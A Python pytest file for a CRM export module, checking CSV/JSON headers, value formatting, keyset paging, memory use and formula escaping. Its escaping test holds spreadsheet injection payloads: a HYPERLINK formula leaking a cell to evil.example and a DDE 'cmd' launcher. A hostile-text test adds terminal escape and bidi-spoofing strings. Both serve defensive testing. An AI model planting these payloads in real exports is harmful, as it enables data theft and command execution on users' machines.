"""CSV and JSON exports on real SQLite files and PostgreSQL: headers, values, formula
safety, hostile text, keyset paging and flat memory."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import Engine, event, insert, select

from workstation.store.db import write_session
from workstation.store.exports import fields as export_fields
from workstation.store.exports.stream import (
    EXPORT_KINDS,
    ExportError,
    export_columns,
    export_records,
)
from workstation.store.models import (
    Account,
    Activity,
    Campaign,
    CampaignMember,
    Contact,
    History,
    Lead,
    Opportunity,
    OpportunityContactRole,
    Rep,
)
from workstation.store.reference import CONVERTED

T0 = datetime(2024, 1, 19, 9, 42, 24, 123456, tzinfo=UTC)
T0_TEXT = "2024-01-19T09:42:24.123Z"
# Stored from another offset, exported in UTC.
T1 = datetime(2024, 3, 5, 18, 30, tzinfo=timezone(timedelta(hours=2)))
T1_TEXT = "2024-03-05T16:30:00.000Z"

EXPECTED_COLUMNS = {
    "leads": [
        "Id", "FirstName", "LastName", "Title", "Company", "Email", "Phone", "PhoneExtension",
        "MobilePhone", "Website", "Industry", "NumberOfEmployees", "Street", "City", "State",
        "PostalCode", "Country", "Description", "AccountType", "TimeZone", "LeadSource",
        "LeadType", "CampaignId", "Status", "SourceStatus", "IsOpen",
        "LifecycleStage", "OwnerId", "ExistingAccountId", "Score", "DoNotCall",
        "HasOptedOutOfEmail", "CreatedDate", "AssignedDate", "LastActivityDate",
        "CallbackDate", "AttemptCount", "RejectedReason", "IsConverted", "ConvertedDate",
        "ConvertedAccountId", "ConvertedContactId", "ConvertedOpportunityId",
        "LastModifiedDate", "ExternalId",
    ],
    "contacts": [
        "Id", "AccountId", "FirstName", "LastName", "Title", "Email", "Phone", "PhoneExtension",
        "MobilePhone", "MailingStreet", "MailingCity", "MailingState", "MailingPostalCode",
        "MailingCountry", "Description", "TimeZone", "LeadSource", "LifecycleStage", "OwnerId",
        "Score",
        "DoNotCall", "HasOptedOutOfEmail", "IsReference", "ReferenceType", "ReferenceUseCount",
        "IsActive", "RejectedReason", "CreatedDate", "AssignedDate", "LastActivityDate",
        "CallbackDate", "AttemptCount", "LastModifiedDate", "ExternalId",
    ],
    "accounts": [
        "Id", "Name", "Type", "Website", "Domain", "Industry", "NumberOfEmployees", "Phone",
        "BillingStreet", "BillingCity", "BillingState", "BillingPostalCode", "BillingCountry",
        "IsCustomer", "OwnerId", "IsActive", "CreatedDate", "ExternalId",
    ],
    "opportunities": [
        "Id", "AccountId", "Name", "Amount", "StageName", "Probability", "CloseDate",
        "IsClosed", "IsWon", "NextStep", "ClosedReason", "IsRejected", "OwnerId",
        "LeadSource", "CampaignId", "CreatedDate", "ExternalId",
    ],
    "opportunity-contact-roles": [
        "Id", "OpportunityId", "ContactId", "Role", "IsPrimary", "CreatedDate",
    ],
    "campaigns": [
        "Id", "Name", "Type", "Offer", "Product", "StartDate", "EndDate", "IsActive",
        "BudgetedCost", "ActualCost", "CallScriptId", "EmailTemplate", "CreatedDate",
        "ExternalId",
    ],
    "campaign-members": [
        "Id", "CampaignId", "LeadId", "ContactId", "Status", "HasResponded",
        "FirstRespondedDate", "CreatedDate", "ExternalId",
    ],
    "activities": [
        "Id", "WhoId", "LeadId", "ContactId", "WhatId", "AccountId", "OpportunityId",
        "OwnerId", "Type", "Subject", "CallDisposition", "Description", "ScriptAnswers",
        "CallDurationInSeconds", "ActivityDate", "CallbackDate", "ReversesActivityId",
        "ExternalId",
    ],
    "history": [
        "Id", "Entity", "EntityId", "Field", "OldValue", "NewValue", "CreatedById", "Reason",
        "CreatedDate",
    ],
}  # fmt: skip

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def _export(engine: Engine, kind: str, fmt: str = "csv", **options: Any) -> tuple[str, int]:
    out = io.StringIO(newline="")
    written = export_records(engine, kind, out, fmt=fmt, **options)
    return out.getvalue(), written


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _csv_dicts(engine: Engine, kind: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(_export(engine, kind)[0], newline="")))


def _json_rows(engine: Engine, kind: str) -> list[dict[str, Any]]:
    return json.loads(_export(engine, kind, "json")[0], parse_float=Decimal)


def _unescape(cell: str) -> str:
    return cell.removeprefix("'")


def _as_csv_cell(value: Any) -> str:
    """How a JSON value is written in CSV (before formula escaping)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return json.dumps(value, ensure_ascii=False)
    return str(value)


@pytest.fixture
def big_csv_fields() -> Iterator[None]:
    previous = csv.field_size_limit(4_000_000)
    yield
    csv.field_size_limit(previous)


def _populate(engine: Engine) -> dict[str, int]:
    """One record of every kind (two leads: one converted, one nearly empty)."""
    with write_session(engine) as session:
        rep = Rep(name="Ada Rep", created_at=T0)
        campaign = Campaign(
            name="Spring Webinar",
            channel="Webinar",
            offer="Demo Request",
            product="Dialer",
            start_date=date(2024, 3, 1),
            end_date=date(2024, 3, 31),
            budget_cents=500_000,
            created_at=T0,
            external_id="701Ec00000GJDl7IAH",
        )
        session.add_all([rep, campaign])
        session.flush()
        account = Account(
            name="Acme, Inc.",
            website="https://acme.example",
            domain="acme.example",
            industry="Software",
            employees=50,
            phone="+14155550100",
            state="CA",
            country="US",
            owner_id=rep.id,
            created_at=T0,
        )
        session.add(account)
        session.flush()
        contact = Contact(
            account_id=account.id,
            first_name="Grace",
            last_name="Hopper",
            email="grace@acme.example",
            phone="+14155550123",
            lifecycle_stage="Opportunity",
            owner_id=rep.id,
            do_not_call=True,
            created_at=T0,
            updated_at=T0,
        )
        session.add(contact)
        session.flush()
        opportunity = Opportunity(
            account_id=account.id,
            name="Acme – Spring Webinar",
            amount_cents=123450,
            stage="Closed Won",
            probability=100,
            close_date=date(2024, 3, 31),
            owner_id=rep.id,
            campaign_id=campaign.id,
            is_closed=True,
            created_at=T0,
        )
        session.add(opportunity)
        session.flush()
        converted = Lead(
            first_name="Grace",
            last_name="Hopper",
            company="Acme, Inc.",
            email="grace@acme.example",
            phone="+14155550123",
            employees=50,
            status=CONVERTED,
            is_open=False,
            lifecycle_stage="Sales Qualified",
            owner_id=rep.id,
            score=42,
            email_opt_out=True,
            created_at=T0,
            updated_at=T0,
            assigned_at=T0,
            is_converted=True,
            converted_at=T1,
            converted_account_id=account.id,
            converted_contact_id=contact.id,
            converted_opportunity_id=opportunity.id,
            external_id="00QEc00000BBaeXMAT",
        )
        pooled = Lead(last_name="Nobody", company="Pool Co", created_at=T0, updated_at=T0)
        session.add_all([converted, pooled])
        session.flush()
        role = OpportunityContactRole(
            opportunity_id=opportunity.id,
            contact_id=contact.id,
            role="Decision Maker",
            is_primary=True,
            created_at=T0,
        )
        member = CampaignMember(
            campaign_id=campaign.id,
            lead_id=converted.id,
            contact_id=contact.id,
            status="Responded",
            has_responded=True,
            responded_at=T1,
            created_at=T0,
        )
        call = Activity(
            lead_id=converted.id,
            contact_id=contact.id,
            account_id=account.id,
            opportunity_id=opportunity.id,
            rep_id=rep.id,
            disposition="Connected – Qualified",
            subject="Discovery call",
            notes="Budget approved,\nsigning Friday",
            answers={"Budget": "yes", "Timeline": 3},
            duration_seconds=95,
            occurred_at=T0,
        )
        note = Activity(lead_id=pooled.id, kind="note", notes="", occurred_at=T1)
        change = History(
            entity="lead",
            entity_id=converted.id,
            field="status",
            old_value="Open",
            new_value=CONVERTED,
            rep_id=rep.id,
            reason="converted",
            at=T0,
        )
        session.add_all([role, member, call, note, change])
        session.flush()
        return {
            "rep": rep.id, "campaign": campaign.id, "account": account.id,
            "contact": contact.id, "opportunity": opportunity.id, "lead": converted.id,
            "pooled": pooled.id, "call": call.id, "note": note.id,
        }  # fmt: skip


def test_kinds_and_headers_are_the_documented_ones():
    assert tuple(EXPECTED_COLUMNS) == EXPORT_KINDS
    for kind, columns in EXPECTED_COLUMNS.items():
        assert export_columns(kind) == columns
        for name in columns:
            assert name in export_fields.__doc__, f"{kind}.{name} is not documented"


def test_every_kind_exports_its_header_and_rows(engine):
    _populate(engine)
    expected_rows = {"leads": 2, "activities": 2}
    for kind in EXPORT_KINDS:
        text, written = _export(engine, kind)
        rows = _csv_rows(text)
        assert rows[0] == EXPECTED_COLUMNS[kind]
        assert written == len(rows) - 1 == expected_rows.get(kind, 1), kind
        assert all(len(row) == len(rows[0]) for row in rows)
        assert text.endswith("\r\n")


def test_values_are_formatted_like_salesforce(engine):
    ids = _populate(engine)
    converted, pooled = _csv_dicts(engine, "leads")
    assert converted["Id"] == str(ids["lead"])
    assert converted["Company"] == "Acme, Inc."
    assert converted["Phone"] == "+14155550123"  # a plain number: no quote to show
    assert converted["Status"] == CONVERTED
    assert converted["NumberOfEmployees"] == "50"
    assert converted["Score"] == "42"
    assert (converted["IsConverted"], converted["IsOpen"], converted["DoNotCall"]) == (
        "true", "false", "false",
    )  # fmt: skip
    assert converted["HasOptedOutOfEmail"] == "true"
    assert converted["CreatedDate"] == T0_TEXT
    assert converted["ConvertedDate"] == T1_TEXT
    assert converted["ConvertedAccountId"] == str(ids["account"])
    assert converted["ConvertedContactId"] == str(ids["contact"])
    assert converted["ConvertedOpportunityId"] == str(ids["opportunity"])
    assert converted["OwnerId"] == str(ids["rep"])
    assert converted["ExternalId"] == "00QEc00000BBaeXMAT"
    assert pooled["FirstName"] == pooled["OwnerId"] == pooled["ConvertedDate"] == ""
    assert pooled["Status"] == "Open" and pooled["IsOpen"] == "true"

    (opportunity,) = _csv_dicts(engine, "opportunities")
    assert opportunity["Amount"] == "1234.50"
    assert opportunity["CloseDate"] == "2024-03-31"
    assert (opportunity["StageName"], opportunity["IsClosed"], opportunity["IsWon"]) == (
        "Closed Won", "true", "true",
    )  # fmt: skip
    assert opportunity["CampaignId"] == str(ids["campaign"])

    (campaign,) = _csv_dicts(engine, "campaigns")
    assert (campaign["Type"], campaign["Offer"], campaign["StartDate"]) == (
        "Webinar", "Demo Request", "2024-03-01",
    )  # fmt: skip
    assert (campaign["BudgetedCost"], campaign["ActualCost"]) == ("5000.00", "")

    (member,) = _csv_dicts(engine, "campaign-members")
    assert (member["HasResponded"], member["FirstRespondedDate"]) == ("true", T1_TEXT)

    (role,) = _csv_dicts(engine, "opportunity-contact-roles")
    assert (role["Role"], role["IsPrimary"]) == ("Decision Maker", "true")

    call, note = _csv_dicts(engine, "activities")
    # After conversion Salesforce points WhoId at the contact and WhatId at the opportunity.
    assert call["WhoId"] == call["ContactId"] == str(ids["contact"])
    assert call["LeadId"] == str(ids["lead"])
    assert call["WhatId"] == call["OpportunityId"] == str(ids["opportunity"])
    assert call["CallDisposition"] == "Connected – Qualified"
    assert call["Description"] == "Budget approved,\nsigning Friday"
    assert json.loads(call["ScriptAnswers"]) == {"Budget": "yes", "Timeline": 3}
    assert (call["Type"], call["CallDurationInSeconds"], call["ActivityDate"]) == (
        "call", "95", T0_TEXT,
    )  # fmt: skip
    assert note["WhoId"] == note["LeadId"] == str(ids["pooled"])
    assert note["ContactId"] == note["WhatId"] == note["ScriptAnswers"] == ""

    (change,) = _csv_dicts(engine, "history")
    assert (change["Entity"], change["EntityId"], change["NewValue"]) == (
        "lead", str(ids["lead"]), CONVERTED,
    )  # fmt: skip
    assert (change["CreatedById"], change["CreatedDate"]) == (str(ids["rep"]), T0_TEXT)

    (opportunity_json,) = _json_rows(engine, "opportunities")
    assert opportunity_json["Amount"] == Decimal("1234.50")
    assert '"Amount": 1234.50,' in _export(engine, "opportunities", "json")[0]
    assert opportunity_json["IsWon"] is True and opportunity_json["CreatedDate"] == T0_TEXT
    _, activity_json = _json_rows(engine, "activities")
    assert activity_json["ContactId"] is None and activity_json["ScriptAnswers"] is None


def test_json_has_the_same_rows_as_csv(engine):
    _populate(engine)
    for kind in EXPORT_KINDS:
        csv_rows = _csv_rows(_export(engine, kind)[0])
        json_rows = _json_rows(engine, kind)
        assert len(json_rows) == len(csv_rows) - 1 > 0, kind
        for cells, obj in zip(csv_rows[1:], json_rows, strict=True):
            assert list(obj) == csv_rows[0]
            assert [_unescape(cell) for cell in cells] == [
                _as_csv_cell(value) for value in obj.values()
            ], kind


def test_json_is_one_array_written_line_by_line(engine):
    _populate(engine)
    text, written = _export(engine, "leads", "json")
    lines = text.split("\n")
    assert lines[0] == "[" and lines[-2:] == ["]", ""]
    assert len(lines) == written + 3
    assert all(line.startswith("{") for line in lines[1:-2])


def test_formula_cells_are_escaped(engine):
    dangerous = {
        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "last_name": "+1+2",
        "company": "-1+2",
        "title": "@SUM(A1:A9)",
        "street": "\tTabbed",
        "city": "\rCarriage",
        "state": "'quoted",  # escaped too, so that dropping one quote always restores it
        "website": "=cmd|' /C calc'!A0",
        "industry": "-",
    }
    if engine.dialect.name == "sqlite":  # PostgreSQL text cannot hold NUL at all
        dangerous["postal_code"] = "\0=1"
    dangerous["lead_source"] = "-5 "
    # A sign and digits run nothing: a phone comes out as it is, with no quote to show.
    kept = {"country": "SE", "phone": "+14155550123"}
    with write_session(engine) as session:
        session.add(Lead(**dangerous, **kept, score=-5, created_at=T0, updated_at=T0))
    text, _ = _export(engine, "leads")
    header, row = _csv_rows(text)
    cells = dict(zip(header, row, strict=True))
    (raw,) = _json_rows(engine, "leads")
    names = {
        field.expression.name: field.name for field in export_fields.EXPORT_SPECS["leads"].fields
    }
    for column, value in dangerous.items():
        assert cells[names[column]] == "'" + value
        assert raw[names[column]] == value  # JSON keeps text as it is
    for column, value in kept.items():
        assert cells[names[column]] == value
    assert cells["Score"] == "-5"  # a plain number too
    plain = re.compile(r"[+-]\d+(\.\d+)?")
    assert not [c for c in row if c.startswith(FORMULA_STARTS) and not plain.fullmatch(c)]


HOSTILE = [
    "[bold]Ada[/] [@click=app.quit]quit[/]",
    "[/",
    "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x9b2J",
    "bell\x07 back\x08space del\x7f vt\x0b ff\x0c",
    "\u202eevil.exe\u202c \u200fשלום \u061c",
    'He said "hi", then\r\nleft;\nagain',
    "emoji 🧨 and CJK 漢字 and \u2028line sep",
    "x" * 1_000_000 + "é",
]


def test_hostile_text_round_trips(engine, big_csv_fields):
    with write_session(engine) as session:
        for text in HOSTILE:
            session.add(History(entity="lead", entity_id=1, field="notes", new_value=text,
                                reason=text, at=T0))  # fmt: skip
    csv_text, written = _export(engine, "history")
    assert written == len(HOSTILE)
    rows = _csv_rows(csv_text)[1:]
    assert [row[5] for row in rows] == HOSTILE
    assert [row[7] for row in rows] == HOSTILE
    json_text, _ = _export(engine, "history", "json")
    assert json_text.isascii()  # safe to print to any terminal
    assert [obj["NewValue"] for obj in json.loads(json_text)] == HOSTILE


@pytest.mark.parametrize("total", [9, 10])
def test_paging_returns_every_row_once_in_id_order(engine, total):
    with engine.begin() as connection:
        connection.execute(
            insert(Lead.__table__),  # type: ignore[attr-defined]
            [{"last_name": f"L{n}", "company": "Paged", "created_at": T0, "updated_at": T0}
             for n in range(total)],
        )  # fmt: skip
        ids = list(connection.execute(select(Lead.id).order_by(Lead.id)).scalars())
    statements: list[tuple[str, Any]] = []

    def record(_conn, _cursor, statement, parameters, *_args):
        if statement.lstrip().upper().startswith("SELECT"):
            statements.append((statement, parameters))

    event.listen(engine, "before_cursor_execute", record)
    try:
        text, written = _export(engine, "leads", batch_size=3)
        json_text, _ = _export(engine, "leads", "json", batch_size=3)
    finally:
        event.remove(engine, "before_cursor_execute", record)
    assert written == total
    assert [int(row[0]) for row in _csv_rows(text)[1:]] == ids
    assert [obj["Id"] for obj in json.loads(json_text)] == ids
    # Four pages for 9 or 10 rows (the fourth is empty or short), all but the first keyed
    # on the last id seen, by one statement.
    per_export = [statement for statement, _ in statements[: len(statements) // 2]]
    assert len(statements) == 8
    assert "lead.id >" not in per_export[0]
    assert len(set(per_export[1:])) == 1 and "lead.id >" in per_export[1]
    for statement, parameters in statements:
        # SQLAlchemy's SQLite dialect adds "OFFSET ?" to every LIMIT; it must stay 0.
        if "OFFSET" in statement.upper():
            assert engine.dialect.name == "sqlite" and list(parameters)[-1] == 0


def test_empty_tables_export_a_header_or_an_empty_array(sqlite_engine):
    for kind in EXPORT_KINDS:
        assert _export(sqlite_engine, kind, "json") == ("[]\n", 0)
        assert _csv_rows(_export(sqlite_engine, kind)[0]) == [EXPECTED_COLUMNS[kind]]


def test_unknown_kind_or_format_is_refused_before_writing(sqlite_engine):
    out = io.StringIO()
    with pytest.raises(ExportError, match=r"unknown export kind 'lead'.*leads, contacts"):
        export_records(sqlite_engine, "lead", out)
    with pytest.raises(ExportError, match="history"):
        export_columns("tasks")
    with pytest.raises(ExportError, match="unknown format 'xlsx': use one of csv, json"):
        export_records(sqlite_engine, "leads", out, fmt="xlsx")
    with pytest.raises(ExportError, match="batch_size"):
        export_records(sqlite_engine, "leads", out, batch_size=0)
    assert out.getvalue() == ""


class _NullSink(io.TextIOBase):
    def write(self, text: str) -> int:
        return len(text)


def test_memory_stays_flat_over_a_large_table(sqlite_engine):
    # SQLite only: the paging code is the same on PostgreSQL, and tracing every allocation
    # of 20k rows twice is the slowest thing in this file.
    total = 20_000
    with sqlite_engine.begin() as connection:
        connection.execute(
            insert(Lead.__table__),  # type: ignore[attr-defined]
            [{"first_name": f"First{n}", "last_name": f"Last{n}", "company": f"Company {n}",
              "email": f"person{n}@example.com", "phone": f"+1415555{n:04d}",
              "city": "San Francisco", "created_at": T0, "updated_at": T0}
             for n in range(total)],
        )  # fmt: skip
    columns = [field.expression for field in export_fields.EXPORT_SPECS["leads"].fields]
    sample = total // 10
    tracemalloc.start()
    try:
        with sqlite_engine.connect() as connection:
            held_rows = connection.execute(select(*columns).limit(sample)).all()
            holding_a_tenth, _ = tracemalloc.get_traced_memory()
        del held_rows
        tracemalloc.reset_peak()
        base, _ = tracemalloc.get_traced_memory()
        written = export_records(sqlite_engine, "leads", _NullSink(), fmt="json", batch_size=200)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert written == total
    holding_everything = holding_a_tenth * 10  # rows of one shape: memory grows linearly
    # A 200-row page is 1/100 of the table; 1/8 leaves room for the driver, the statement
    # cache and the formatted lines, and still fails if the pages grow tenfold.
    assert peak - base < holding_everything / 8, (peak - base, holding_everything)
